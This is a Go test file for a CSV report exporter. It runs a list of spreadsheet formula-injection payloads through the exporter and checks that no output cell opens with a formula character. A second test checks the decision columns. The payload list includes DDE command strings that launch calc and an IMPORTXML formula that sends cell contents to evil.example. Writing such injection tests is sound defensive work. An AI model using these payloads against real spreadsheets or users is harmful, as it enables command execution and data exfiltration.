package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"rashomon/compare"
)

// formulas are texts that a spreadsheet would run, by themselves or cut at a semicolon.
var formulas = []string{
	`=HYPERLINK("https://evil.example","click")`, `=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	`"=1+1"`, ` =1+1`, "\t=1+1", "\r\n=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\x1b[1m=1+1", "＝1+1", "％", "|calc", "%0A=1",
	`x;=1+1`, `x; =1+1`, `x;"=1+1`, `x;""=1+1;y`, "x;\t@SUM(A1)", "x;;-1", ";=1", "=1;=2", `=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`, "=WEBSERVICE(A1)", "'=1", `","=1+1`,
}

func TestHostileCSV(t *testing.T) {
	for _, p := range append(formulas, payloads...) {
		r := hostile(p)
		r.Conflicts[0].Decision = &compare.Decision{Verdict: compare.VerdictUnsure, Note: p, Reviewer: p, Time: p}
		var b bytes.Buffer
		if err := CSV(&b, r); err != nil {
			t.Fatal(err)
		}
		harmless(t, p, b.String())
		rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
		if err != nil || len(rows) != 5 {
			t.Fatalf("payload %q: %d rows, %v", p, len(rows), err)
		}
		var cells []string
		for _, row := range rows {
			cells = append(cells, row...)
		}
		for _, line := range strings.Split(b.String(), "\n") {
			cells = append(cells, strings.Split(line, ";")[1:]...) // as where lists are written with semicolons
		}
		for _, cell := range cells {
			if cell = strings.TrimLeft(cell, ` "`); cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r|%") || strings.HasPrefix(cell, "＝") {
				t.Errorf("payload %q: a cell opens with %q", p, cell)
			}
		}
	}
}

func TestCSVDecisions(t *testing.T) {
	r := tolls()
	r.Conflicts[0].Decision.LookAgain = true
	r.Agreements = []compare.Agreement{{ID: "g-1", Claims: []compare.Claim{{ID: "c-9"}}}}
	var b bytes.Buffer
	if err := CSV(&b, r); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatal(len(rows), err)
	}
	n := len(rows[0]) - 5
	for i, want := range [][]string{
		{"verdict", "look_again", "note", "reviewer", "decided"},
		{"update", "true", "ask the fire service", "Ann Bell", "2024-03-05T10:00:00Z"},
		{"update", "true", "ask the fire service", "Ann Bell", "2024-03-05T10:00:00Z"},
		{"", "", "", "", ""},
	} {
		if diff := cmp.Diff(want, rows[i][n:]); diff != "" {
			t.Errorf("row %d:\n%s", i, diff)
		}
	}
}
